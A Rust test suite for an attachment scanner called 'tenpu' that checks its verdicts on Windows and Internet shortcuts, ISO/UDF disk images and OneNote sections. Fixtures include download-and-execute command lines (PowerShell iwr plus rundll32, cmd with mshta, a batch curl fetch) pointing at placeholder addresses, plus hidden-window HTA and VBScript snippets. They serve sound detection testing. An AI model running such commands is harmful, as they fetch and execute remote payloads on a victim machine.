//! Carriers through `tenpu::check`: Windows and Internet shortcuts, ISO/UDF disk images, OneNote
//! sections; then the shared corpus (strelka, LnkParse3, RecursiveExtractor), skipped with a
//! message when absent.

mod common;

use std::panic::{catch_unwind, AssertUnwindSafe};

use common::{carriergen, zipgen};
use tenpu::formats::{disk, onenote, shortcut};
use tenpu::{Options, Report, Verdict};

fn check(bytes: &[u8], name: &str) -> Report {
    tenpu::check(bytes, name, &Options::default())
}

fn at(r: &Report, code: &str) -> Vec<String> {
    r.findings
        .iter()
        .filter(|f| f.code == code)
        .map(|f| f.location.to_string())
        .collect()
}

fn evidence(r: &Report, code: &str) -> String {
    r.findings
        .iter()
        .filter(|f| f.code == code)
        .map(|f| f.evidence.clone())
        .collect::<Vec<_>>()
        .join(" | ")
}

fn objects(r: &Report) -> Vec<String> {
    r.objects.iter().map(|o| o.location.to_string()).collect()
}

const TEXT: &[u8] = b"Meeting notes: nothing to see here, just plain text.\n";

// ---- shortcuts ----

#[test]
fn lnk_running_powershell_is_dangerous_with_evidence() {
    let l = carriergen::lnk(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "-w hidden -c \"iwr http://192.0.2.7/a.dll -OutFile $env:TEMP\\a.dll; rundll32 $env:TEMP\\a.dll,Start\"",
    );
    let r = check(&l, "請求書.pdf.lnk");
    assert_eq!(r.verdict, Verdict::Dangerous);
    let f = r
        .findings
        .iter()
        .find(|f| f.code == "file.shortcut")
        .expect("file.shortcut");
    assert!(
        f.evidence.contains("runs powershell, rundll32"),
        "{}",
        f.evidence
    );
    assert!(
        f.evidence
            .contains("target: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
        "{}",
        f.evidence
    );
    assert!(
        f.evidence.contains("arguments: -w hidden"),
        "{}",
        f.evidence
    );
    assert!(
        f.evidence.contains("working dir: C:\\Windows\\System32"),
        "{}",
        f.evidence
    );
    assert!(
        f.evidence
            .contains("icon: %SystemRoot%\\System32\\shell32.dll"),
        "{}",
        f.evidence
    );
    for t in ["lolbin", "download", "hidden"] {
        assert!(f.tags.contains(&t), "{t} in {:?}", f.tags);
    }
    assert!(r.complete);
}

#[test]
fn lnk_to_plain_program_still_dangerous_without_lolbin_tag() {
    let r = check(&carriergen::lnk("D:\\Tools\\viewer.exe", ""), "a.lnk");
    assert_eq!(r.verdict, Verdict::Dangerous);
    let f = r
        .findings
        .iter()
        .find(|f| f.code == "file.shortcut")
        .unwrap();
    assert!(!f.tags.contains(&"lolbin"), "{:?}", f.tags);
    assert!(
        f.evidence.contains("target: D:\\Tools\\viewer.exe"),
        "{}",
        f.evidence
    );
}

#[test]
fn lnk_with_japanese_target() {
    let r = check(
        &carriergen::lnk("C:\\Users\\田中\\請求書.exe", "/s"),
        "a.lnk",
    );
    assert!(
        evidence(&r, "file.shortcut").contains("target: C:\\Users\\田中\\請求書.exe"),
        "{}",
        evidence(&r, "file.shortcut")
    );
}

#[test]
fn zip_holding_lnk_is_dangerous_at_the_entry() {
    let l = carriergen::lnk(
        "C:\\Windows\\System32\\cmd.exe",
        "/c start /min mshta http://192.0.2.1/x.hta",
    );
    let r = check(&zipgen::plain(&[("a.lnk", &l)]), "x.zip");
    assert_eq!(r.verdict, Verdict::Dangerous);
    assert_eq!(at(&r, "file.shortcut"), vec!["x.zip > a.lnk"]);
    assert!(
        evidence(&r, "file.shortcut").contains("runs cmd, mshta"),
        "{}",
        evidence(&r, "file.shortcut")
    );
}

#[test]
fn truncated_lnk_is_reported_and_incomplete() {
    let l = carriergen::lnk("C:\\Windows\\System32\\cmd.exe", "/c whoami");
    for n in [0x4C, 0x60, l.len() - 20] {
        let r = check(&l[..n], "a.lnk");
        assert_eq!(r.verdict, Verdict::Dangerous, "cut at {n}");
        assert!(!r.complete, "cut at {n}");
        assert!(
            evidence(&r, "file.shortcut").contains("cut short"),
            "cut at {n}"
        );
    }
}

#[test]
fn url_shortcut_to_smb_executable() {
    let r = check(
        &carriergen::url_shortcut("file://192.0.2.5/share/invoice.exe"),
        "invoice.url",
    );
    assert_eq!(r.verdict, Verdict::Dangerous);
    let f = r
        .findings
        .iter()
        .find(|f| f.code == "file.shortcut")
        .unwrap();
    assert!(
        f.evidence
            .contains("URL: file://192.0.2.5/share/invoice.exe"),
        "{}",
        f.evidence
    );
    assert!(
        f.tags.contains(&"file_url") && f.tags.contains(&"executable_url"),
        "{:?}",
        f.tags
    );
    let r = check(&carriergen::url_shortcut("https://example.jp/"), "site.url");
    let f = r
        .findings
        .iter()
        .find(|f| f.code == "file.shortcut")
        .unwrap();
    assert!(f.tags.is_empty(), "{:?}", f.tags);
}

// ---- disk images ----

#[test]
fn iso_holding_exe_is_dangerous_with_joliet_names() {
    let pe = zipgen::tiny_pe();
    let img = carriergen::iso(&[("SETUP.EXE", &pe), ("会議資料.txt", TEXT)]);
    let r = check(&img, "x.iso");
    assert_eq!(r.verdict, Verdict::Dangerous);
    assert!(
        at(&r, "file.executable").contains(&"x.iso > SETUP.EXE".to_string()),
        "{:#?}",
        r.findings
    );
    assert!(
        objects(&r).contains(&"x.iso > 会議資料.txt".to_string()),
        "{:?}",
        objects(&r)
    );
    let ev = evidence(&r, "file.disk_image");
    assert!(
        ev.contains("ISO 9660 + Joliet")
            && ev.contains("volume \"TENPU_TEST\"")
            && ev.contains("2 files"),
        "{ev}"
    );
    assert!(r.complete);
}

#[test]
fn clean_iso_is_only_a_disk_image() {
    let r = check(&carriergen::iso(&[("readme.txt", TEXT)]), "x.iso");
    assert_eq!(r.verdict, Verdict::Suspicious);
    let codes: Vec<&str> = r.findings.iter().map(|f| f.code).collect();
    assert_eq!(codes, vec!["file.disk_image"]);
    assert!(r.complete);
    assert_eq!(objects(&r), vec!["x.iso", "x.iso > readme.txt"]);
}

#[test]
fn iso_holding_lnk_in_zip() {
    let l = carriergen::lnk("C:\\Windows\\System32\\cmd.exe", "/c calc");
    let img = carriergen::iso(&[("資料.lnk", &l)]);
    let r = check(&zipgen::plain(&[("x.iso", &img)]), "mail.zip");
    assert_eq!(at(&r, "file.shortcut"), vec!["mail.zip > x.iso > 資料.lnk"]);
}

#[test]
fn iso_file_outside_image_is_malformed_and_incomplete() {
    let mut img = carriergen::iso(&[("A.TXT", TEXT)]);
    // The Joliet root directory is sector 20; its third record is the file: push its extent out.
    let rec = 20 * 2048 + 34 + 34;
    img[rec + 2..rec + 6].copy_from_slice(&0x00FF_FFFFu32.to_le_bytes());
    let r = check(&img, "x.iso");
    assert!(!r.complete);
    assert!(
        evidence(&r, "archive.malformed").contains("A.TXT: content outside the image"),
        "{:#?}",
        r.findings
    );
}

#[test]
fn udf_holding_exe_is_dangerous_with_japanese_names() {
    let pe = zipgen::tiny_pe();
    let img = carriergen::udf("請求書", &[("請求書.exe", &pe), ("説明.txt", TEXT)]);
    let r = check(&img, "x.img");
    assert_eq!(r.verdict, Verdict::Dangerous, "{:#?}", r.findings);
    assert!(
        at(&r, "file.executable").contains(&"x.img > 請求書.exe".to_string()),
        "{:#?}",
        r.findings
    );
    assert!(
        objects(&r).contains(&"x.img > 説明.txt".to_string()),
        "{:?}",
        objects(&r)
    );
    let ev = evidence(&r, "file.disk_image");
    assert!(
        ev.starts_with("UDF image, volume \"請求書\", 2 files"),
        "{ev}"
    );
    assert!(r.complete, "{:#?}", r.findings);
}

#[test]
fn udf_250_metadata_partition() {
    let pe = zipgen::tiny_pe();
    let img = carriergen::udf_with_metadata(
        "DATA",
        &[
            (
                "資料.lnk",
                &carriergen::lnk(r"C:\Windows\System32\cmd.exe", "/c x"),
            ),
            ("a.dll", &pe),
        ],
    );
    let r = check(&img, "x.iso");
    assert_eq!(r.verdict, Verdict::Dangerous, "{:#?}", r.findings);
    assert_eq!(at(&r, "file.shortcut"), vec!["x.iso > 資料.lnk"]);
    assert!(at(&r, "file.executable").contains(&"x.iso > a.dll".to_string()));
    assert!(
        evidence(&r, "file.disk_image").starts_with("UDF image, volume \"DATA\", 2 files"),
        "{}",
        evidence(&r, "file.disk_image")
    );
    assert!(r.complete, "{:#?}", r.findings);
}

#[test]
fn udf_file_outside_partition_is_malformed() {
    let mut img = carriergen::udf("V", &[("a.txt", TEXT)]);
    // The file's entry is partition block 3 (sector 303); push its short_ad position out.
    let o = 303 * 2048 + 180;
    img[o..o + 4].copy_from_slice(&0x0FFF_FFFFu32.to_le_bytes());
    let r = check(&img, "x.iso");
    assert!(!r.complete);
    assert!(
        evidence(&r, "archive.malformed").contains("a.txt: content outside the image"),
        "{:#?}",
        r.findings
    );
}

#[test]
fn vhd_is_recognised_not_opened() {
    let mut v = vec![0u8; 4096];
    let n = v.len();
    v[n - 512..n - 504].copy_from_slice(b"conectix");
    let r = check(&v, "disk.vhd");
    assert_eq!(at(&r, "file.disk_image"), vec!["disk.vhd"]);
    assert_eq!(at(&r, "file.not_inspected"), vec!["disk.vhd"]);
    assert!(!r.complete);
}

#[test]
fn truncated_and_garbled_images_do_not_panic() {
    let pe = zipgen::tiny_pe();
    let iso = carriergen::iso(&[("SETUP.EXE", &pe), ("B.TXT", TEXT)]);
    let udf = carriergen::udf("V", &[("SETUP.EXE", &pe), ("B.TXT", TEXT)]);
    let mut seed = 12345u32;
    // Structures: ISO sectors 16..21; UDF sectors 16..35 and 256 and the partition from 300.
    #[allow(clippy::single_range_in_vec_init)]
    let iso_areas = vec![16 * 2048..22 * 2048];
    for (img, areas) in [
        (&iso, iso_areas),
        (
            &udf,
            vec![
                16 * 2048..35 * 2048,
                256 * 2048..257 * 2048,
                300 * 2048..306 * 2048,
            ],
        ),
    ] {
        for n in (0..img.len()).step_by(509) {
            let _ = check(&img[..n], "x.iso");
        }
        for _ in 0..300 {
            let mut g = img.clone();
            for _ in 0..8 {
                seed = seed.wrapping_mul(1_103_515_245).wrapping_add(12345);
                let area = &areas[(seed as usize >> 20) % areas.len()];
                let i = area.start + (seed as usize >> 3) % area.len();
                g[i] = (seed >> 16) as u8;
            }
            let r = check(&g, "x.iso");
            // Still an image by content: never a silent clean result.
            if matches!(
                tenpu::detect::sniff(&g, "x.iso"),
                tenpu::detect::Kind::Iso | tenpu::detect::Kind::Udf
            ) {
                assert_ne!(r.verdict, Verdict::NoFindings);
            }
        }
    }
}

#[test]
fn hidden_files_are_counted() {
    let mut img = carriergen::iso(&[("a.lnk", b"x"), ("b.dll", b"y")]);
    // Mark the second file hidden in the Joliet directory (sector 20): records are ., .., a.lnk, b.dll.
    let mut pos = 20 * 2048;
    for _ in 0..3 {
        pos += img[pos] as usize;
    }
    img[pos + 25] |= 1;
    let r = check(&img, "x.iso");
    assert!(
        evidence(&r, "file.disk_image").contains("2 files, 1 hidden"),
        "{}",
        evidence(&r, "file.disk_image")
    );
}

#[test]
fn garbled_shortcuts_and_notebooks_do_not_panic() {
    let l = carriergen::lnk(r"C:\Windows\System32\cmd.exe", "/c start x.hta");
    let one = carriergen::onenote_with(&[b"@echo off\r\n", &zipgen::tiny_pe()]);
    let mut seed = 99u32;
    for base in [&l, &one] {
        for n in 0..base.len() {
            let _ = check(&base[..n], "a");
        }
        for _ in 0..500 {
            let mut g = base.clone();
            for _ in 0..4 {
                seed = seed.wrapping_mul(1_103_515_245).wrapping_add(12345);
                let i = (seed as usize >> 3) % g.len();
                g[i] = (seed >> 16) as u8;
            }
            let _ = check(&g, "a");
        }
    }
}

// ---- OneNote ----

#[test]
fn onenote_holding_hta_is_dangerous() {
    let hta = b"<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\"></head><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"powershell -w hidden\"</script></html>";
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
    let r = check(&carriergen::onenote_with(&[png, hta]), "議事録.one");
    assert_eq!(r.verdict, Verdict::Dangerous);
    assert_eq!(at(&r, "onenote.embedded_file"), vec!["議事録.one"]);
    assert!(
        evidence(&r, "onenote.embedded_file").contains("2 embedded files (png, hta)"),
        "{}",
        evidence(&r, "onenote.embedded_file")
    );
    assert!(
        at(&r, "file.executable").contains(&"議事録.one > embedded-2.hta".to_string()),
        "{:#?}",
        r.findings
    );
    assert!(r.complete);
}

#[test]
fn onenote_recorded_extensions_win() {
    let hta: &[u8] = b"<script>new ActiveXObject('WScript.Shell').Run('calc')</script>";
    let cmd: &[u8] = b"start calc\r\n";
    let r = check(
        &carriergen::onenote_named(&[(".hta", hta), (".CMD", cmd), (".txt", TEXT)]),
        "n.one",
    );
    assert_eq!(r.verdict, Verdict::Dangerous);
    assert_eq!(
        evidence(&r, "onenote.embedded_file"),
        "3 embedded files (hta, cmd, txt)"
    );
    let ex = at(&r, "file.executable");
    assert_eq!(ex, vec!["n.one > embedded-1.hta", "n.one > embedded-2.cmd"]);
}

#[test]
fn onenote_scripts_by_content() {
    let bat: &[u8] =
        b"@echo off\r\ncurl -o %TEMP%\\a.dll http://192.0.2.1/a\r\nrundll32 %TEMP%\\a.dll,Go\r\n";
    let vbs: &[u8] = b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n";
    let r = check(
        &carriergen::onenote_with(&[bat, vbs, &zipgen::tiny_pe()]),
        "n.one",
    );
    let ex = at(&r, "file.executable");
    for p in [
        "n.one > embedded-1.bat",
        "n.one > embedded-2.vbs",
        "n.one > embedded-3.exe",
    ] {
        assert!(ex.contains(&p.to_string()), "{p} in {ex:?}");
    }
}

#[test]
fn onenote_with_only_a_picture_is_suspicious_not_dangerous() {
    let r = check(
        &carriergen::onenote_with(&[b"\xFF\xD8\xFF\xE0 jpeg"]),
        "n.one",
    );
    assert_eq!(r.verdict, Verdict::Suspicious);
    assert_eq!(
        evidence(&r, "onenote.embedded_file"),
        "1 embedded file (jpg)"
    );
}

#[test]
fn onenote_overlapping_objects_are_bounded() {
    // 1000 headers, each declaring the rest of the file as its data, no footers.
    let mut one = carriergen::onenote_with(&[]);
    let filler = vec![b'A'; 64 * 1024];
    let mut heads = Vec::new();
    for _ in 0..1000 {
        heads.push(one.len());
        one.extend_from_slice(&carriergen::file_data_store_object(b"")[..36]);
    }
    one.extend_from_slice(&filler);
    let n = one.len();
    for h in heads {
        one[h + 16..h + 24].copy_from_slice(&((n - h - 36) as u64).to_le_bytes());
    }
    let opts = Options {
        limits: tenpu::Limits {
            max_total_inflated: 1 << 20,
            ..Default::default()
        },
        ..Default::default()
    };
    let r = tenpu::check(&one, "n.one", &opts);
    assert!(!r.complete);
    assert!(
        evidence(&r, "archive.limit_exceeded").contains("overlap"),
        "{:#?}",
        r.findings.iter().map(|f| f.code).collect::<Vec<_>>()
    );
    assert!(r.objects.len() < 100, "{}", r.objects.len());
}

#[test]
fn onenote_truncated_object_is_malformed() {
    let one = carriergen::onenote_with(&[TEXT]);
    let r = check(&one[..one.len() - 30], "n.one");
    assert!(!r.complete);
    assert!(at(&r, "archive.malformed").contains(&"n.one".to_string()));
}

// ---- corpus ----

fn corpus() -> Option<std::path::PathBuf> {
    let c = common::corpus_dir();
    if c.is_none() {
        eprintln!("skipping: ../shared/corpus absent");
    }
    c
}

fn run_safely(bytes: &[u8], name: &str) -> Report {
    catch_unwind(AssertUnwindSafe(|| check(bytes, name)))
        .unwrap_or_else(|_| panic!("panic on {name}"))
}

#[test]
fn corpus_strelka_carriers() {
    let Some(c) = corpus() else { return };
    let f = c.join("strelka/fixtures");

    // test.lnk: target calc.exe, args "-testCommands", working dir C:\Windows\System32, name "Test Comment".
    let b = std::fs::read(f.join("test.lnk")).unwrap();
    let l = shortcut::parse_lnk(&b).unwrap();
    assert_eq!(
        l.target().as_deref(),
        Some("C:\\Windows\\System32\\calc.exe")
    );
    assert_eq!(l.arguments.as_deref(), Some("-testCommands"));
    assert_eq!(l.working_dir.as_deref(), Some("C:\\Windows\\System32"));
    assert_eq!(l.name.as_deref(), Some("Test Comment"));
    let r = run_safely(&b, "test.lnk");
    assert_eq!(r.verdict, Verdict::Dangerous);
    println!("strelka test.lnk: {}", evidence(&r, "file.shortcut"));

    // test.iso: ISO 9660, 1 file "/lorem.txt" (4015 bytes), volume "NEW_VOLUME".
    let b = std::fs::read(f.join("test.iso")).unwrap();
    let iso = disk::parse_iso(&b).unwrap();
    assert_eq!(iso.label, "NEW_VOLUME");
    let files: Vec<(String, usize)> = iso
        .files
        .iter()
        .map(|e| (e.path.clone(), e.data.bytes().len()))
        .collect();
    assert_eq!(files, vec![("lorem.txt".to_string(), 4015)]);
    let r = run_safely(&b, "test.iso");
    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
    assert!(r.complete);
    println!("strelka test.iso: {}", evidence(&r, "file.disk_image"));

    // test_udf_1.50.img: a UDF image (strelka lists its files; GROUND_TRUTH names none).
    let b = std::fs::read(f.join("test_udf_1.50.img")).unwrap();
    let udf = disk::parse_udf(&b).unwrap();
    assert!(udf.problems.is_empty(), "{:?}", udf.problems);
    assert!(!udf.files.is_empty());
    let r = run_safely(&b, "test_udf_1.50.img");
    assert!(r.complete, "{:#?}", r.findings);
    println!(
        "strelka test_udf_1.50.img: {}",
        evidence(&r, "file.disk_image")
    );

    // test.one: 2 embedded files extracted (the corpus's test.docx and a PNG).
    let b = std::fs::read(f.join("test.one")).unwrap();
    let s = onenote::scan(&b);
    assert_eq!(s.objects.len(), 2);
    assert!(s.objects.iter().all(|o| o.footer_ok));
    let docx = std::fs::read(f.join("test.docx")).unwrap();
    assert_eq!(s.objects[0].data, &docx[..]);
    let r = run_safely(&b, "test.one");
    assert_eq!(
        evidence(&r, "onenote.embedded_file"),
        "2 embedded files (docx, png)"
    );
    assert!(
        objects(&r).contains(&"test.one > embedded-1.docx".to_string()),
        "{:?}",
        objects(&r)
    );
    assert!(r.complete, "{:#?}", r.findings);
    println!(
        "strelka test.one: {}",
        evidence(&r, "onenote.embedded_file")
    );

    // test.onepkg: 0 extracted (a CAB, not a section).
    let b = std::fs::read(f.join("test.onepkg")).unwrap();
    let r = run_safely(&b, "test.onepkg");
    assert!(at(&r, "onenote.embedded_file").is_empty());
}

#[test]
fn corpus_recursive_extractor_images() {
    let Some(c) = corpus() else { return };
    let d = c.join("RecursiveExtractor/TestData/TestDataArchives");
    for (file, want_format) in [
        ("TestData.iso", "ISO 9660 + Joliet"),
        ("UdfTest.iso", "UDF"),
        ("UdfTestWithMultiSystem.iso", "UDF"),
    ] {
        let b = std::fs::read(d.join(file)).unwrap();
        let r = run_safely(&b, file);
        let ev = evidence(&r, "file.disk_image");
        println!("{file}: {ev}");
        assert!(ev.starts_with(want_format), "{file}: {ev}");
        assert!(r.complete, "{file}: {:#?}", r.findings);
        let inner: Vec<String> = r
            .objects
            .iter()
            .filter(|o| o.location.depth() == 2)
            .map(|o| o.location.to_string())
            .collect();
        println!("  {} files: {:?}", inner.len(), inner);
        assert!(!inner.is_empty(), "{file}");
    }
    // Garbled copies of the UDF image: no panic, and never a silent clean result.
    let b = std::fs::read(d.join("UdfTest.iso")).unwrap();
    let mut seed = 7u32;
    let mut incomplete = 0;
    for _ in 0..200 {
        let mut g = b.clone();
        for _ in 0..6 {
            seed = seed.wrapping_mul(1_103_515_245).wrapping_add(12345);
            // Hit the descriptor and directory area (sectors 256..270 hold the structures here).
            let i = 256 * 2048 + (seed as usize >> 3) % (b.len() - 256 * 2048);
            g[i] = (seed >> 16) as u8;
        }
        let r = run_safely(&g, "UdfTest.iso");
        assert_ne!(r.verdict, Verdict::NoFindings);
        incomplete += usize::from(!r.complete);
    }
    println!("UdfTest.iso garbled 200 times: {incomplete} incomplete reports");
    // TestData.iso holds TestData/{Lorem,Ipsum,Dolor}.txt-like files in the Joliet view.
    let b = std::fs::read(d.join("TestData.iso")).unwrap();
    let l = disk::parse_iso(&b).unwrap();
    assert!(
        l.files
            .iter()
            .any(|e| e.path.to_ascii_lowercase().ends_with("lorem.txt")),
        "{:?}",
        l.files.iter().map(|e| &e.path).collect::<Vec<_>>()
    );
}

/// Standard base64, ignoring whitespace.
fn base64(s: &[u8]) -> Vec<u8> {
    let val = |c: u8| match c {
        b'A'..=b'Z' => Some(c - b'A'),
        b'a'..=b'z' => Some(c - b'a' + 26),
        b'0'..=b'9' => Some(c - b'0' + 52),
        b'+' => Some(62),
        b'/' => Some(63),
        _ => None,
    };
    let (mut out, mut acc, mut bits) = (Vec::new(), 0u32, 0u32);
    for v in s.iter().filter_map(|&c| val(c)) {
        acc = (acc << 6) | v as u32;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    out
}

#[test]
fn corpus_lnkparse3_agreement() {
    let Some(c) = corpus() else { return };
    let d = c.join("LnkParse3/tests");
    let Ok(rd) = std::fs::read_dir(d.join("samples")) else {
        return;
    };
    let mut paths: Vec<_> = rd.flatten().map(|e| e.path()).collect();
    paths.sort();
    let (mut files, mut compared, mut agreed, mut codepage) = (0, 0, 0, 0);
    let mut disagreements = Vec::new();
    for p in paths {
        let raw = std::fs::read(&p).unwrap();
        // LnkParse3 stores its samples base64-encoded.
        let b = if raw.starts_with(b"TAAAA") {
            base64(&raw)
        } else {
            raw
        };
        let name = p.file_name().unwrap().to_string_lossy().to_string();
        let r = run_safely(&b, &format!("{name}.lnk"));
        let ev = evidence(&r, "file.shortcut");
        println!("  {name}: {}", ev.chars().take(160).collect::<String>());
        assert_eq!(r.verdict, Verdict::Dangerous, "{name}");
        files += 1;
        let Ok(j) = std::fs::read(d.join("json").join(format!("{name}.json"))) else {
            continue;
        };
        let Ok(j) = serde_json::from_slice::<serde_json::Value>(&j) else {
            continue;
        };
        let Some(l) = shortcut::parse_lnk(&b) else {
            disagreements.push(format!("{name}: not parsed"));
            continue;
        };
        let data = &j["data"];
        let li = &j["link_info"];
        let target = li["local_base_path"].as_str().map(|b| {
            let s = li["common_path_suffix"].as_str().unwrap_or("");
            if s.is_empty() {
                b.to_string()
            } else {
                format!("{b}\\{s}")
            }
        });
        let pairs: [(&str, Option<String>, Option<String>); 6] = [
            (
                "arguments",
                data["command_line_arguments"].as_str().map(String::from),
                l.arguments.clone(),
            ),
            (
                "working_dir",
                data["working_directory"].as_str().map(String::from),
                l.working_dir.clone(),
            ),
            (
                "relative_path",
                data["relative_path"].as_str().map(String::from),
                l.relative_path.clone(),
            ),
            (
                "icon",
                data["icon_location"].as_str().map(String::from),
                l.icon_location.clone(),
            ),
            (
                "name",
                data["description"].as_str().map(String::from),
                l.name.clone(),
            ),
            (
                "local_base_path",
                target,
                l.local_base_path.as_ref().map(|b| {
                    let s = l.common_path_suffix.as_deref().unwrap_or("");
                    if s.is_empty() {
                        b.clone()
                    } else {
                        format!("{b}\\{s}")
                    }
                }),
            ),
        ];
        for (field, want, got) in pairs {
            let Some(want) = want else { continue };
            compared += 1;
            if got.as_deref() == Some(want.as_str()) {
                agreed += 1;
            } else if !want.is_ascii() {
                // LnkParse3 decodes ANSI strings as cp1252; Tenpu tries CP932 first.
                codepage += 1;
            } else {
                disagreements.push(format!("{name} {field}: want {want:?}, got {got:?}"));
            }
        }
    }
    println!("LnkParse3: {files} files, {compared} fields compared, {agreed} agree, {codepage} differ only by ANSI code page (non-ASCII)");
    for d in &disagreements {
        println!("  {d}");
    }
    assert!(disagreements.is_empty(), "{disagreements:#?}");
    assert!(agreed >= 40, "{agreed}");
}

#[test]
fn raw_fat_img_is_recognised_not_opened() {
    let mut img = vec![0u8; 64 * 1024];
    img[0..3].copy_from_slice(&[0xEB, 0x3C, 0x90]);
    img[0x36..0x3E].copy_from_slice(b"FAT12   ");
    img[510] = 0x55;
    img[511] = 0xAA;
    let r = tenpu::check(&img, "invoice.img", &tenpu::Options::default());
    let codes: Vec<&str> = r.findings.iter().map(|f| f.code).collect();
    assert!(
        codes.contains(&"file.disk_image") && codes.contains(&"file.not_inspected"),
        "{codes:?}"
    );
    assert!(!codes.contains(&"file.type_mismatch"), "{codes:?}");
    assert!(!r.complete);
    assert_eq!(r.verdict, tenpu::Verdict::Suspicious);
}
